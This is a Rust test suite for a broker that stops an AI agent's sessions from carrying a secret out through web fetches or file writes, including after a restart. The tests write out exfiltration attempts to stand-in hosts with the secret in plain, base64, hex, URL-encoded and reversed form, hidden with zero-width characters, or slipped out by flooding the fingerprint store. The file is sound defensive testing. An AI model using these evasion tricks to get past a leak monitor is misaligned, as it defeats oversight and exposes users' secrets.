//! Secrets do not change sessions, on a real brokerd: what one session read from a secret root
//! cannot be carried out or written down by another, plain or encoded, before or after a
//! restart; the denial is `leak`, recorded and logged with its runbook pointer.

mod support;

use std::fs;

use bxcore::ToolResponse;
use serde_json::json;
use support::tool_call as call;
use support::*;

const SECRET: &str = "correct horse battery staple 4711";

fn home() -> Home {
    let h = Home::new("");
    h.dir("notes");
    fs::write(h.dir("vault").join("key.txt"), SECRET).unwrap();
    h.write_config(&format!(
        "[[workspace.roots]]\npath = {:?}\nclass = \"private\"\nwritable = true\n\n\
         [[workspace.roots]]\npath = {:?}\nclass = \"secret\"\n\n{}",
        h.home.join("notes").display().to_string(),
        h.home.join("vault").display().to_string(),
        h.idle_gateway(),
    ));
    h
}

fn read_secret(h: &Home, session: &str) {
    let path = h.home.join("vault/key.txt").display().to_string();
    match call(h, session, 1, "workspace_read", json!({ "path": path })) {
        ToolResponse::Result { content, .. } => assert_eq!(content, SECRET),
        o => panic!("{o:?}"),
    }
}

fn fetch(h: &Home, session: &str, id: u64, url: &str) -> ToolResponse {
    call(h, session, id, "web_fetch", json!({ "url": url }))
}

fn assert_leak(r: ToolResponse, how: &str) {
    match r {
        ToolResponse::Denied { reason } => {
            assert!(reason.starts_with("leak:"), "{reason}");
            assert!(reason.contains(how), "{reason}");
        }
        o => panic!("expected a leak denial, got {o:?}"),
    }
}

#[test]
fn a_secret_read_in_one_session_cannot_leave_through_another() {
    let h = home();
    let b = Brokerd::start(&h);
    read_secret(&h, "l1");
    // `+` for a space is one of the separators the canonical form drops.
    let url = format!("https://example.org/?q={}", SECRET.replace(' ', "+"));
    assert_leak(fetch(&h, "l2", 2, &url), "plain");
    let denied = records(&h)
        .into_iter()
        .find(|r| r["session"] == "l2" && r["event"] == "denied")
        .unwrap();
    assert!(
        denied["detail"]["reason"]
            .as_str()
            .unwrap()
            .starts_with("leak:")
    );
    let log = b.wait_log("as a leak");
    assert!(
        log.contains("see docs/runbook.md#broker-leak-denied"),
        "{log}"
    );
    // l2 stays what it was: the secret never reached it through brokerd.
    assert!(!h.state_file("l2").exists());
}

#[test]
fn a_secret_cannot_be_written_down_by_another_session() {
    let h = home();
    let _b = Brokerd::start(&h);
    read_secret(&h, "l1");
    let out = h.home.join("notes/copy.txt");
    let r = call(
        &h,
        "l3",
        3,
        "workspace_write",
        json!({"path": out.display().to_string(), "content": format!("note: {SECRET}")}),
    );
    assert_leak(r, "plain");
    assert!(!out.exists());
}

#[test]
fn a_secret_is_found_in_base64_and_hex() {
    let h = home();
    let _b = Brokerd::start(&h);
    read_secret(&h, "l1");
    let b64 = b64(&format!("x{SECRET}"));
    assert_leak(
        fetch(&h, "l2", 2, &format!("https://e.org/{b64}")),
        "base64",
    );
    let hex: String = SECRET.bytes().map(|b| format!("{b:02X}")).collect();
    assert_leak(
        fetch(&h, "l3", 3, &format!("https://e.org/?h={hex}")),
        "hex",
    );
}

#[test]
fn the_fingerprints_survive_a_restart() {
    let h = home();
    let mut b = Brokerd::start(&h);
    read_secret(&h, "l1");
    b.kill();
    let _b = Brokerd::start(&h);
    let piece = SECRET[4..24].replace(' ', "%20");
    assert_leak(
        fetch(&h, "l2", 2, &format!("https://e.org/?q={piece}")),
        "url-encoded",
    );
}

#[test]
fn an_unrelated_egress_is_not_a_leak() {
    let h = home();
    let _b = Brokerd::start(&h);
    read_secret(&h, "l1");
    // Allowed by the policy; it fails only because no gateway serves the socket.
    match fetch(&h, "l2", 2, "https://example.org/weather?city=Berlin") {
        ToolResponse::Failed { message } => {
            assert!(message.contains("could not be asked"), "{message}")
        }
        o => panic!("{o:?}"),
    }
}

#[test]
fn a_damaged_fingerprint_store_stops_brokerd_at_start() {
    let h = home();
    let mut b = Brokerd::start(&h);
    read_secret(&h, "l1");
    b.kill();
    let store = h.home.join("broker/fingerprints.bin");
    let mut bytes = fs::read(&store).unwrap();
    bytes.truncate(bytes.len() - 3);
    fs::write(&store, bytes).unwrap();
    let mut again = Brokerd::spawn(&h);
    assert_ne!(again.wait_exit(), 0);
    assert!(
        again
            .stderr()
            .contains("see docs/runbook.md#broker-fingerprints-damaged"),
        "{}",
        again.stderr()
    );
}

/// A file of `len` bytes no other file shares a window with.
fn noise(seed: u64, len: usize) -> String {
    let mut x = seed | 1;
    (0..len)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (b'a' + (x % 26) as u8) as char
        })
        .collect()
}

fn read(h: &Home, session: &str, id: u64, path: &std::path::Path) -> ToolResponse {
    call(
        h,
        session,
        id,
        "workspace_read",
        json!({ "path": path.display().to_string() }),
    )
}

#[test]
fn a_store_that_cannot_hold_a_release_denies_every_egress_and_never_forgets() {
    let h = home();
    let b = Brokerd::start(&h);
    read_secret(&h, "l1");
    // Bulk secret reads, as a model would make to push the secret's fingerprints out.
    let n = brokerd::fingerprints::MAX_ENTRIES / brokerd::fingerprints::PER_RELEASE + 1;
    for i in 0..n as u64 {
        let f = h.home.join(format!("vault/bulk{i}.txt"));
        let seed = (i + 1).wrapping_mul(0x9e37_79b9_7f4a_7c15);
        fs::write(&f, noise(seed, 3 * brokerd::fingerprints::PER_RELEASE)).unwrap();
        assert!(matches!(
            read(&h, "bulk", 10 + i, &f),
            ToolResponse::Result { .. }
        ));
    }
    b.wait_log("see docs/runbook.md#broker-fingerprints-full");
    // A fresh session can send nothing, not even what never was secret, and never the secret.
    for (id, url) in [
        (200, "https://example.org/weather".to_string()),
        (
            201,
            format!("https://example.org/?q={}", SECRET.replace(' ', "+")),
        ),
    ] {
        match fetch(&h, "fresh", id, &url) {
            ToolResponse::Denied { reason } => {
                assert!(reason.contains("fingerprint store is full"), "{reason}");
                assert!(
                    reason.ends_with("see docs/runbook.md#broker-fingerprints-full"),
                    "{reason}"
                );
            }
            o => panic!("{o:?}"),
        }
    }
    let out = h.home.join("notes/x.txt");
    let w = call(
        &h,
        "fresh",
        202,
        "workspace_write",
        json!({"path": out.display().to_string(), "content": "shopping list"}),
    );
    assert!(matches!(w, ToolResponse::Denied { .. }), "{w:?}");
    // And so it stays across a restart.
    drop(b);
    let _b = Brokerd::start(&h);
    assert!(matches!(
        fetch(&h, "fresh2", 203, "https://example.org/weather"),
        ToolResponse::Denied { .. }
    ));
}

#[test]
fn the_boxs_own_confirmation_of_a_write_into_a_secret_root_is_never_fingerprinted() {
    let h = Home::new("");
    h.dir("notes");
    h.dir("vault");
    h.write_config(&format!(
        "[[workspace.roots]]\npath = {:?}\nclass = \"private\"\nwritable = true\n\n\
         [[workspace.roots]]\npath = {:?}\nclass = \"secret\"\nwritable = true\n\n{}",
        h.home.join("notes").display().to_string(),
        h.home.join("vault").display().to_string(),
        h.idle_gateway(),
    ));
    let _b = Brokerd::start(&h);
    let secret_file = h.home.join("vault/new.txt");
    let confirmation = match call(
        &h,
        "w1",
        1,
        "workspace_write",
        json!({"path": secret_file.display().to_string(), "content": "    x"}),
    ) {
        ToolResponse::Result { content, .. } => content,
        o => panic!("{o:?}"),
    };
    assert!(
        confirmation.starts_with("wrote 5 bytes to "),
        "{confirmation}"
    );
    // Another session writes the same words, the path and indented text into the notes.
    let out = h.home.join("notes/log.txt");
    let r = call(
        &h,
        "w2",
        2,
        "workspace_write",
        json!({
            "path": out.display().to_string(),
            "content": format!("{confirmation}\n{}\n                indented\n", h.home.join("vault").display()),
        }),
    );
    assert!(matches!(r, ToolResponse::Result { .. }), "{r:?}");
}

#[test]
fn a_four_digit_pin_and_the_cheap_encodings_of_a_secret_cannot_leave() {
    let h = home();
    let _b = Brokerd::start(&h);
    fs::write(h.home.join("vault/pin.txt"), "4711\n").unwrap();
    assert!(matches!(
        read(&h, "l1", 1, &h.home.join("vault/pin.txt")),
        ToolResponse::Result { .. }
    ));
    read_secret(&h, "l1");
    assert_leak(fetch(&h, "l2", 2, "https://e.org/?pin=4711"), "plain");
    let reversed: String = SECRET.chars().rev().collect();
    assert_leak(
        fetch(
            &h,
            "l3",
            3,
            &format!("https://e.org/?q={}", reversed.replace(' ', "+")),
        ),
        "reversed",
    );
    let spaced: String = SECRET
        .to_uppercase()
        .chars()
        .flat_map(|c| [c, '\u{200b}'])
        .collect();
    let out = h.home.join("notes/x.txt");
    let w = call(
        &h,
        "l4",
        4,
        "workspace_write",
        json!({"path": out.display().to_string(), "content": spaced}),
    );
    assert_leak(w, "plain");
    // A number that merely holds the digits is not the PIN.
    assert!(!matches!(
        fetch(&h, "l5", 5, "https://e.org/?port=14711"),
        ToolResponse::Denied { .. }
    ));
}

#[test]
fn a_secret_file_that_is_a_host_name_is_shown_to_the_owner_and_fetches_to_it_pass() {
    let h = home();
    let b = Brokerd::start(&h);
    let f = h.home.join("vault/host.txt");
    fs::write(&f, "en.wikipedia.org\n").unwrap();
    assert!(matches!(read(&h, "l1", 1, &f), ToolResponse::Result { .. }));
    let log = b.wait_log("see docs/runbook.md#broker-fingerprint-weak");
    assert!(!log.contains("wikipedia"), "{log}");
    match fetch(&h, "l2", 2, "https://en.wikipedia.org/wiki/Hash_function") {
        ToolResponse::Failed { message } => {
            assert!(message.contains("could not be asked"), "{message}")
        }
        o => panic!("{o:?}"),
    }
}

fn b64(s: &str) -> String {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for c in s.as_bytes().chunks(3) {
        let n = c.iter().fold(0u32, |a, &b| a << 8 | u32::from(b)) << (8 * (3 - c.len()));
        for i in 0..=c.len() {
            out.push(A[(n >> (18 - 6 * i) & 63) as usize] as char);
        }
    }
    out
}
